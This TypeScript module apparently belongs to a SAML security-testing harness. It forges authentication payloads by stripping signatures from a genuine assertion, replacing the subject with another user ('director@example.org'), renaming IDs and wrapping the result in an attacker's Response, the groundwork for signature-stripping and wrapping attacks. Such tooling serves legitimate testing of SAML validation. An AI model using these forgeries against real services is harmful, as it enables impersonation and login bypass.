import type { GoodResponse } from './attack.js';
import { attributeOf, find, has, remove, replace, setAttribute, setContent, sibling, textOf } from './markup.js';
import { unsign } from './signature.js';

export const EVIL_NAME_ID = 'director@example.org';
const EVIL_ID = '_evil-assertion';
export const EVIL_RESPONSE_ID = '_evil-response';

/** The assertion, unsigned, under another ID and for another person. */
export function evilAssertion(good: GoodResponse, id = EVIL_ID): string {
  const unsigned = unsign(textOf(good.xml, 'Assertion'), 'Assertion');
  const evil = setContent(unsigned, 'Assertion/Subject/NameID', EVIL_NAME_ID);
  return attributeOf(evil, 'Assertion', 'ID') === id ? evil : setAttribute(evil, 'Assertion', 'ID', id);
}

/** The response with another assertion in the place of its own, and without a signature of its own. */
export function withAssertion(good: GoodResponse, assertion: string): string {
  return replace(unsign(good.xml, 'Response'), 'Assertion', () => assertion);
}

/** The evil assertion in a Response of the attacker's. */
export function evilResponse(good: GoodResponse): string {
  return setAttribute(withAssertion(good, evilAssertion(good)), 'Response', 'ID', EVIL_RESPONSE_ID);
}

/** The signature of a signed element. */
export function signatureOf(element: string, name: 'Response' | 'Assertion'): string {
  return textOf(element, `${name}/Signature`);
}

export function withoutSignature(element: string, name: 'Response' | 'Assertion'): string {
  return has(element, `${name}/Signature`) ? remove(element, `${name}/Signature`) : element;
}

/** An element of the assertion namespace. */
export function saml(good: GoodResponse, name: string, content = '', attributes = ''): string {
  return sibling(textOf(good.xml, 'Assertion'), 'Assertion', name, content, attributes);
}

/** An element of the protocol namespace. */
export function samlp(good: GoodResponse, name: string, content = '', attributes = ''): string {
  return sibling(good.xml, 'Response', name, content, attributes);
}

/** The same with its namespace declared, for a place outside the assertion. */
export function declaredSaml(good: GoodResponse, name: string, content = ''): string {
  const { prefix } = find(good.xml, 'Assertion');
  const declared = prefix === '' ? 'xmlns' : `xmlns:${prefix.slice(0, -1)}`;
  return saml(good, name, content, `${declared}="urn:oasis:names:tc:SAML:2.0:assertion"`);
}
